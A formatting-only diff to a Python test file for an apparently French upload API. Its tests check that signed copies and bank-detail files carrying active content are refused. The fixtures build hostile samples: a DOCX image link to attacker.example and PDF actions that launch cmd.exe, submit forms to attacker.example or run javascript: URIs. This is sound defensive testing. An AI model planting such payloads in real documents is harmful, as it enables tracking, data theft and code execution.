@@ -34,7 +34,9 @@ def rezip(content: bytes, replace: dict[str, bytes]) -> bytes:
     output = io.BytesIO()
     with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(output, "w") as target:
         for member in source.infolist():
-            target.writestr(member, replace.pop(member.filename, None) or source.read(member), zipfile.ZIP_DEFLATED)
+            target.writestr(
+                member, replace.pop(member.filename, None) or source.read(member), zipfile.ZIP_DEFLATED
+            )
         for name, data in replace.items():
             target.writestr(name, data, zipfile.ZIP_DEFLATED)
     return output.getvalue()
@@ -48,7 +50,9 @@ def with_external_image() -> bytes:
         f'<Relationship Id="rId900" Type="{OFFICE}/image" Target="http://attacker.example/pixel.png" '
         'TargetMode="External"/>'
     )
-    return rezip(content, {RELS: rels.replace("</Relationships>", relationship + "</Relationships>").encode()})
+    return rezip(
+        content, {RELS: rels.replace("</Relationships>", relationship + "</Relationships>").encode()}
+    )
 
 
 def with_dtd_in(part: str) -> bytes:
@@ -163,12 +167,18 @@ ANNOTATION = "/Root/Pages/Kids[0]/Annots[0]/A"
 @pytest.mark.parametrize(
     ("prepare", "found"),
     [
-        (link("/Launch", F=TextStringObject("cmd.exe")), f"lancement d'un programme (Launch) ({ANNOTATION}/S)"),
+        (
+            link("/Launch", F=TextStringObject("cmd.exe")),
+            f"lancement d'un programme (Launch) ({ANNOTATION}/S)",
+        ),
         (
             link("/SubmitForm", F=TextStringObject("https://attacker.example/")),
             f"envoi de formulaire (SubmitForm) ({ANNOTATION}/S)",
         ),
-        (link("/GoToR", F=TextStringObject("autre.pdf")), f"lien vers un autre fichier (GoToR) ({ANNOTATION}/S)"),
+        (
+            link("/GoToR", F=TextStringObject("autre.pdf")),
+            f"lien vers un autre fichier (GoToR) ({ANNOTATION}/S)",
+        ),
         (link("/GoToE"), f"lien vers un fichier incorporé (GoToE) ({ANNOTATION}/S)"),
         (
             link("/URI", URI=TextStringObject("javascript:app.alert(1)")),
@@ -186,7 +196,10 @@ def test_a_countersigned_copy_with_active_content_is_a_422_naming_it_and_nothing
 
     message = f"Le PDF contient du contenu actif : {found}. Il est refusé."
     assert refused.status_code == 422
-    assert (refused.get_json()["message"], refused.get_json()["errors"]["files"]["file"]) == (message, [message])
+    assert (refused.get_json()["message"], refused.get_json()["errors"]["files"]["file"]) == (
+        message,
+        [message],
+    )
     assert api.call("GET", f"/conventions/{convention['id']}/signed-copies", 200) == []
     assert not (tmp_path / "signed-copies").exists()
 
@@ -230,14 +243,19 @@ def real_png() -> bytes:
     ],
     ids=["png-header-then-html", "png-then-html", "pdf-goto-remote"],
 )
-def test_a_rib_that_is_not_wholly_what_it_claims_is_a_422_and_nothing_is_kept(api, tmp_path, rib, name, reason):
+def test_a_rib_that_is_not_wholly_what_it_claims_is_a_422_and_nothing_is_kept(
+    api, tmp_path, rib, name, reason
+):
     structure = api.structure("974")
 
     refused = ask_rib(api, structure["id"], rib, name)
 
     message = f"Le RIB doit être un PDF, un PNG ou un JPEG : {reason}"
     assert refused.status_code == 422
-    assert (refused.get_json()["message"], refused.get_json()["errors"]["files"]["file"]) == (message, [message])
+    assert (refused.get_json()["message"], refused.get_json()["errors"]["files"]["file"]) == (
+        message,
+        [message],
+    )
     assert api.call("GET", f"/structures/{structure['id']}/bank-details", 200) == []
     assert not (tmp_path / "ribs").exists()
 
